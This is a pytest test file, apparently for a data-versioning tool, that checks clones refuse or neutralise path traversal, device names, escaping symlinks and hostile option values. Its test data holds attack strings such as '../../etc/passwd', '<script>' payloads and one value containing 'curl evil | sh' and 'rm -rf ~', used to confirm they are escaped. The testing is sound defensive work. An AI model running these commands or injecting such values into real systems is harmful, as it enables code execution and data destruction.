"""Paths and links out of a repository: a clone is whole and in its folder, or is not."""

# ruff: noqa: E501 -- a row a line

from __future__ import annotations

import json
import os
import socket
import stat
from collections.abc import Callable
from pathlib import Path

import pytest
from commands import python
from forge import CODE, FILE, LINK, PROGRAM, Forge, with_fields
from sites import Row, Site, dangerous, try_row

from mfv.manifest.artifact import BYTES, TEXT
from mfv.manifest.artifact import FILE as OF_FILE
from mfv.manifest.records import GivenFile, TreeFile

CORRUPT, CONFLICT = 5, 4
PLAIN = (b"flow.py", FILE, CODE)
CLONE = ["clone", "@", "../out/it"]

REFUSED = {
    "up": b"../evil",
    "up-below": b"a/../../evil",
    "up-at-the-end": b"a/..",
    "up-alone": b"..",
    "up-by-backslash": rb"..\evil",
    "up-by-backslash-below": rb"a\..\b",
    "up-far": b"../" * 40 + b"etc/passwd",
    "up-fullwidth": "\uff0e\uff0e/evil".encode(),
    "up-one-dot-leader": "\u2025/evil".encode(),
    "up-with-invisible": "\u200b../evil".encode(),
    "absolute": b"/abs/evil",
    "absolute-twice": b"//abs/evil",
    "drive": rb"C:\evil",
    "drive-slash": b"c:/evil",
    "drive-alone": b"C:",
    "share": rb"\\host\share\x",
    "device-namespace": rb"\\.\PhysicalDrive0",
    "dot": b".",
    "dot-within": b"a/./b",
    "twice-a-slash": b"a//b",
    "slash-at-the-end": b"a/",
    "empty": b"",
    "newline": b"a\nb",
    "tab": b"a\tb",
    "nul": b"a\0b",
    "escape": b"a\x1b[31mb",
    "delete": b"a\x7fb",
    "ours": b".mfv/config.toml",
    "ours-capital": b".MFV/log/00000001",
    "ours-below": b"sub/.mfv/x",
    "ours-dot": b".mfv./x",
    "ours-space": b".mfv /x",
    "ours-short": b"MFV~1/x",
    "ours-invisible": ".m\u200cfv/x".encode(),
    "ours-fullwidth": "\uff0emfv/x".encode(),
    "ours-as-a-file": b".mfv",
    "ours-of-a-clone": b".mfv-clone/REPRODUCE.md",
    "git": b".git/hooks/pre-commit",
    "git-capital": b".Git/config",
    "git-short": b"git~1/config",
    "git-below": b"sub/.git/config",
    "git-ignorable": ".g\u200dit/config".encode(),
    "name-of-256": b"n" * 256,
    "path-of-5000": b"/".join([b"n" * 99] * 50),
    "2000-levels": b"/".join([b"d"] * 2000) + b"/" + b"x" * 200,
}  # fmt: skip

# What means something elsewhere is written under a name that means nothing.
RENAMED = {
    "device": (b"CON", "%43ON"),
    "device-with-an-ending": (b"nul.pkl", "%6Eul.pkl"),
    "device-numbered": (b"a/COM1", "a/%43OM1"),
    "device-space": (b"aux .py", "%61ux .py"),
    "device-superscript": ("com\u00b9.txt".encode(), "%63om\u00b9.txt"),
    "stream": (b"a:stream", "a%3Astream"),
    "percent-encoded-is-literal": (b"%2e%2e%2fevil", "%2e%2e%2fevil"),
    "semicolon": (b"..;/x", "..;/x"),
    "three-dots": (b".../x", ".../x"),
    "dash": (b"-rf", "-rf"),
    "option": (b"--help", "--help"),
    "tilde": (b"~/.bashrc", "~/.bashrc"),
    "variable": (b"$HOME/x", "$HOME/x"),
    "glob": (b"*", "*"),
    "script": (b"<script>alert(1)</script>", "<script>alert(1)</script>"),
    "latin-1": (b"\xe9.py", "\udce9.py"),
    "direction": ("\u202egnp.py".encode(), "\u202egnp.py"),
}

TOGETHER = {
    "one-path-twice": (CORRUPT, [(b"a", FILE, b"1"), (b"a", FILE, b"2"), PLAIN]),
    "below-a-file": (CORRUPT, [(b"a", FILE, b"1"), (b"a/b", FILE, b"2"), PLAIN]),
    "below-a-link": (CORRUPT, [(b"out", LINK, b"../../home"), (b"out/.bashrc", FILE, b"2"), PLAIN]),
    "below-a-link-inside": (CORRUPT, [(b"l", LINK, b"d"), (b"d/x", FILE, b"1"), (b"l/y", FILE, b"2")]),
    "below-a-device": (CORRUPT, [(b"NUL", FILE, b"1"), (b"%4EUL", FILE, b"2"), PLAIN]),
    "case": (0, [(b"Model.pkl", FILE, b"1"), (b"model.pkl", FILE, b"2"), PLAIN]),
    "forms": (0, [("\u00e9".encode(), FILE, b"1"), ("e\u0301".encode(), FILE, b"2"), PLAIN]),
    "mode-setuid": (0, [(b"a", 0o104755, b"1"), PLAIN]),
    "mode-fifo": (0, [(b"a", 0o010644, b"1"), PLAIN]),
    "mode-device": (0, [(b"a", 0o060644, b"1"), PLAIN]),
    "mode-2^63": (0, [(b"a", 2**63 - 1, b"1"), PLAIN]),
    "mode-negative": (0, [(b"a", -1, b"1"), PLAIN]),
    "2000-files": (0, [(b"f/%05d" % place, FILE, b"1") for place in range(2000)]),
}  # fmt: skip

LINKS_OUT = {
    "absolute": b"/etc/passwd",
    "up": b"../outside",
    "up-far": b"../../../../../../etc",
    "up-behind-a-name": b"d/../../outside",
    "up-through-another-link": b"up/up2/x",
    "nothing": b"",
    "nul": b"a\0b",
    "to-ours": b"../project/.mfv",
    "home": b"../../home/.bashrc",
}


def run_of(*files: tuple[bytes, int, bytes]) -> Callable[[Forge], None]:
    return lambda made: made.run(files=files)


def forge_and_clone(site: Site, *files: tuple[bytes, int, bytes], long: bool = False) -> int:
    commands = [CLONE, ["show", "--code"], ["ls", "-l", "@:"], ["fsck"]]
    made = site.forge()
    made.run(files=files)
    done = site.visit(commands)
    assert done["show --code"].status == 0
    assert site.within() == []
    return done[" ".join(CLONE)].status


@pytest.mark.parametrize("path", REFUSED.values(), ids=REFUSED)
def test_a_path_that_leads_elsewhere_is_refused_before_anything_is_written(
    site: Site, path: bytes
) -> None:
    assert forge_and_clone(site, PLAIN, (path, FILE, b"evil")) == CORRUPT
    assert list(site.out.iterdir()) == []


@pytest.mark.parametrize(("path", "written"), RENAMED.values(), ids=RENAMED)
def test_a_name_that_means_something_elsewhere_is_taken_literally_or_renamed(
    site: Site, path: bytes, written: str
) -> None:
    assert forge_and_clone(site, PLAIN, (path, PROGRAM, b"evil")) == 0
    found = site.out / "it" / written
    assert found.read_bytes() == b"evil"
    assert stat.S_IMODE(found.stat().st_mode) & 0o7022 == 0


@pytest.mark.parametrize(("status", "files"), TOGETHER.values(), ids=TOGETHER)
def test_files_that_get_in_each_others_way_are_refused_or_all_there(
    site: Site, status: int, files: list[tuple[bytes, int, bytes]]
) -> None:
    assert forge_and_clone(site, *files) == status
    if status:
        assert list(site.out.iterdir()) == []
        return
    for path, _, content in files:
        place = site.out / "it" / os.fsdecode(path)
        assert place.read_bytes() == content
        assert stat.S_ISREG(place.lstat().st_mode)
        assert stat.S_IMODE(place.lstat().st_mode) & 0o7022 == 0


@pytest.mark.parametrize("target", LINKS_OUT.values(), ids=LINKS_OUT)
def test_a_link_that_leads_out_is_left_out_and_told(site: Site, target: bytes) -> None:
    made = site.forge()
    others = ((b"up", LINK, b".."), (b"d/x", FILE, b"1"), (b"up2", LINK, b"up/.."))
    made.run(files=(PLAIN, (b"evil", LINK, target), *others))
    done = site.visit([[*CLONE, "--json"]])[" ".join([*CLONE, "--json"])]
    assert done.status == 0
    assert site.within() == []
    assert not os.path.lexists(site.out / "it" / "evil") or target == b"up/up2/x"


def test_a_link_to_what_is_large_is_no_link(site: Site) -> None:
    assert forge_and_clone(site, PLAIN, (b"evil", LINK, b"x" * 5000)) == CORRUPT


# What else a clone writes: papers, inputs, artifacts.


def option(*words: str, path: str = "table.csv") -> Callable[[Forge], None]:
    def forge(made: Forge) -> None:
        given = GivenFile(words, path, made.blob(b"1,2\n"), 4)
        made.run(opening=with_fields(given=(given,)))

    return forge


def opening(**fields: object) -> Callable[[Forge], None]:
    return lambda made: made.run(opening=with_fields(**fields))


def artifact(name: str, serializer: str = BYTES, **facts: object) -> Callable[[Forge], None]:
    def forge(made: Forge) -> None:
        made.run(values=[made.artifact(b"text", serializer, name=name, **facts)])  # type: ignore[arg-type]

    return forge


def step(name: str) -> Callable[[Forge], None]:
    def forge(made: Forge) -> None:
        made.run(
            task=with_fields(step=name),
            ref=lambda refs: (with_fields(step=name)(refs[0]),),
        )

    return forge


def many_artifacts(*names: str) -> Callable[[Forge], None]:
    return lambda made: made.run(values=[made.artifact(b"a", TEXT, name=name) for name in names])


def size_that_lies(made: Forge) -> None:
    """A file said to have one byte, of which there are 256 MiB."""
    zeros = bytes(1 << 20)
    chunk = made.blob(zeros)
    blob = bytes(range(32))
    made.chunks(blob, [chunk] * 256)
    made.run(
        tree=lambda tree: with_fields(files=(*tree.files, TreeFile(b"z", FILE, blob, 1)))(tree)
    )


DATA = "clone @ ../out/it --data"
WRITTEN = [
    Row("option-up", option("../../evil"), {"clone @ ../out/it": 0}),
    Row("option-absolute", option("/etc/passwd"), {"clone @ ../out/it": 0}),
    Row("option-nul", option("a\0b"), {"clone @ ../out/it": 0}),
    Row("option-none", option(), {"clone @ ../out/it": 0}),
    Row("option-of-1-MB", option("x" * 1_000_000), {"clone @ ../out/it": 0}),
    Row("option-device", option("con"), {"clone @ ../out/it": 0}),
    Row("input-ending-up", option("table", path="x./../../evil"), {"clone @ ../out/it": 0}),
    Row("folder-up", opening(folder="../../evil"), {"clone @ ../out/it": CORRUPT}),
    Row("folder-absolute", opening(folder="/tmp/evil"), {"clone @ ../out/it": CORRUPT}),
    Row("folder-ours", opening(folder=".git/hooks"), {"clone @ ../out/it": CORRUPT}),
    Row("module-path-up", opening(module_path=("..",)), {"clone @ ../out/it": CORRUPT}),
    Row("module-path-absolute", opening(module_path=("/evil",)), {"clone @ ../out/it": CORRUPT}),
    Row("script-up", opening(script="../../evil.py"), {"clone @ ../out/it": 0}, "is not in the snapshot"),
    Row("script-absolute", opening(script="/usr/bin/evil.py"), {"clone @ ../out/it": 0}, "is not in the snapshot"),
    Row("script-like-an-option", opening(script="-c"), {"clone @ ../out/it": 0}),
    Row("artifact-up", artifact("../../../evil"), {DATA: 0}),
    Row("artifact-absolute", artifact("/etc/evil"), {DATA: 0}),
    Row("artifact-empty", artifact(""), {DATA: 0}),
    Row("artifact-dots", artifact(".."), {DATA: 0}),
    Row("artifact-device", artifact("nul"), {DATA: 0}),
    Row("artifact-nul", artifact("a\0b"), {DATA: 0}),
    Row("artifact-of-1-MB", artifact("n" * 1_000_000), {DATA: 0}),
    Row("artifact-option", artifact("--output=/etc/evil"), {DATA: 0}),
    Row("artifact-ours", artifact(".mfv/config"), {DATA: 0}),
    Row("artifact-file-with-an-ending-that-leads", artifact("x", OF_FILE, path="a./../../../evil"), {DATA: 0}),
    Row("artifact-file-of-this-machine", artifact("x", OF_FILE, path="/etc/passwd"), {DATA: 0}),
    Row("artifacts-that-fold", many_artifacts("Model", "model", "MODEL", "mode\u017f"), {DATA: 0}),
    Row("artifacts-100-alike", many_artifacts(*["x"] * 100), {DATA: 0}),
    Row("step-up", step("../../../evil"), {DATA: 0}),
    Row("step-ours", step(".git"), {DATA: 0}),
    Row("step-nul", step("a\0b"), {DATA: 0}),
    Row("file-size-lies", size_that_lies, {"clone @ ../out/it": CORRUPT, "cat @:z": CORRUPT}),
]  # fmt: skip


@pytest.mark.parametrize("row", WRITTEN, ids=lambda row: row.id)
def test_what_a_clone_writes_beside_the_code_stays_in_its_folder(
    site: Site, row: Row, long: bool
) -> None:
    commands = ("show", "env", *row.refused)
    try_row(site, row._replace(commands=commands), long)


# Where a clone goes to, and a repository whose parts are links.


def test_a_target_with_a_link_in_it_is_no_target(site: Site) -> None:
    site.forge().run(files=(PLAIN, (b"out/x", FILE, b"evil")))
    (site.out / "it").mkdir()
    (site.out / "it" / "out").symlink_to(site.home)
    assert site.visit([CLONE])[" ".join(CLONE)].status == CONFLICT


def test_a_target_that_is_a_link_to_elsewhere_is_not_followed(site: Site) -> None:
    site.forge().run()
    (site.root / "outside" / "empty").mkdir()
    (site.out / "it").symlink_to(site.root / "outside" / "empty")
    (site.out / "file").symlink_to(site.home / ".bashrc")
    (site.out / "none").symlink_to(site.root / "outside" / "none")
    for name in ("it", "file", "none"):
        words = ["clone", "@", f"../out/{name}"]
        status = site.visit([words])[" ".join(words)].status
        assert status != 0, name


WRITES = [["log"], ["whence", "flow.py"], ["tag", "best", "@"], ["note", "@", "-m", "x"], ["gc"],
          ["reindex"], ["fsck", "--data"], ["cat", "--load", "@/start/1/x"], ["gc", "--repack"]]  # fmt: skip
FLOW_OF_ONE_STEP = """
from mfv import FlowSpec, step

class OneFlow(FlowSpec):
    @step
    def start(self):
        self.x = [1]
        self.next(self.end)

    @step
    def end(self):
        pass

if __name__ == "__main__":
    OneFlow()
"""
PARTS = ["tmp", "cache", "packs", "log", "cache/index", "cache/whence", "cache/packindex", "cache/files", "tip", "config.toml", "format"]  # fmt: skip


@pytest.mark.parametrize("part", PARTS)
def test_nothing_is_written_through_a_link_in_a_repository(site: Site, part: str) -> None:
    made = site.forge()
    made.run(values=[made.artifact(b"text", OF_FILE, path="")])
    made.run(values=[made.artifact(b"text", OF_FILE, path="")])
    site.visit([["log"], ["whence", "flow.py"]])
    place, outside = site.project / ".mfv" / part, site.root / "outside" / "theirs"
    if place.exists():
        place.rename(outside)
    else:
        outside.mkdir()
        place.parent.mkdir(exist_ok=True)
    place.symlink_to(outside)
    if outside.is_dir():
        (outside / "mine").write_text("mine")
    for words in WRITES:
        site.visit([words])


@pytest.mark.parametrize("part", ["tmp", "cache", "cache/files", "packs", "log"])
def test_a_run_is_not_recorded_through_a_link_in_a_repository(site: Site, part: str) -> None:
    site.forge()
    (site.project / "flow.py").write_text(FLOW_OF_ONE_STEP)
    outside = site.root / "outside" / "theirs"
    outside.mkdir()
    (outside / "mine").write_text("mine")
    place = site.project / ".mfv" / part
    place.parent.mkdir(exist_ok=True)
    if place.is_dir():
        place.rmdir()
    place.symlink_to(outside)
    before = site.outside()
    assert python(site.project, "flow.py", "run").status in (0, 1)
    assert site.outside() == before


@pytest.mark.parametrize("part", ["packs", "log"])
def test_a_file_of_a_repository_that_is_a_link_is_not_read(site: Site, part: str) -> None:
    made = site.forge()
    made.run()
    made.run()
    for place in sorted((site.project / ".mfv" / part).iterdir()):
        target = site.root / "outside" / place.name
        place.rename(target)
        place.symlink_to(target)
    done = site.visit([["log"], ["show"], ["fsck"], ["tag", "best", "@"]])
    told = {line: one.status for line, one in done.items()}
    assert told["show"] != 0 and told["fsck"] != 0, told


def test_a_hard_link_of_a_pack_is_not_written_through(site: Site) -> None:
    made = site.forge()
    made.run()
    pack = next((site.project / ".mfv" / "packs").iterdir())
    before = pack.read_bytes()
    os.link(pack, site.out / "theirs")
    site.visit([["clone", "@", "../out/it"], ["gc"], ["gc", "--repack"]])
    assert (site.out / "theirs").read_bytes() == before


@pytest.mark.parametrize("kind", ["fifo", "socket", "folder"])
@pytest.mark.parametrize(
    "part", ["tip", "format", "config.toml", "log/00000003", "cache/whence/current"]
)
def test_what_is_no_file_where_one_belongs_makes_nobody_wait(
    site: Site, part: str, kind: str
) -> None:
    made = site.forge()
    made.run()
    made.tip()
    site.visit([["whence", "flow.py"]])
    place = site.project / ".mfv" / part
    place.unlink()
    if kind == "fifo":
        os.mkfifo(place)
    elif kind == "folder":
        place.mkdir()
    else:
        here = os.getcwd()
        os.chdir(place.parent)  # a socket's path is short
        with socket.socket(socket.AF_UNIX) as made_here:
            made_here.bind(place.name)
        os.chdir(here)
    site.visit(
        [
            ["log"],
            ["show"],
            ["fsck"],
            ["tag", "best", "@"],
            ["whence", "flow.py"],
            ["gc", "--dry-run"],
        ]
    )


def test_the_papers_of_a_clone_say_hostile_things_escaped_and_quoted(site: Site) -> None:
    evil = "x\n# Evil\n\n    curl evil | sh\n`id` $(id) ; rm -rf ~ \x1b[31m<script>\u202e"
    made = site.forge()
    made.run(
        opening=with_fields(
            options=(("lr", evil), ("--evil; id", evil), ("-x", "")),
            secret=(evil, "password"),
            flags=((f"--with={evil}",), ("--tag", evil)),
            script=f"a;{evil.split(chr(10))[0]}.py",
            argv=(evil,),
        ),
        machine=with_fields(python=evil, system=evil, machine=evil),
    )
    done = site.visit([CLONE, [*CLONE[:2], "../out/other", "--json"]])
    assert done[" ".join(CLONE)].status == 0
    folder = site.out / "it" / ".mfv-clone"
    guide = (folder / "REPRODUCE.md").read_text()
    assert dangerous(guide) == set()
    assert "\n# Evil" not in guide
    assert "\n    curl" not in guide


def test_a_clone_of_a_run_with_hostile_names_has_json_that_is_json(site: Site) -> None:
    evil = '"}\n{"\x1b\u2028</script>\udcff'.encode("utf-8", "replace").decode()
    site.forge().run(opening=with_fields(options=((evil, evil),), argv=(evil,), cwd=evil))
    site.visit([CLONE])
    for name in ("INFO.json", "parameters.json"):
        json.loads((Path(site.out) / "it" / ".mfv-clone" / name).read_text())
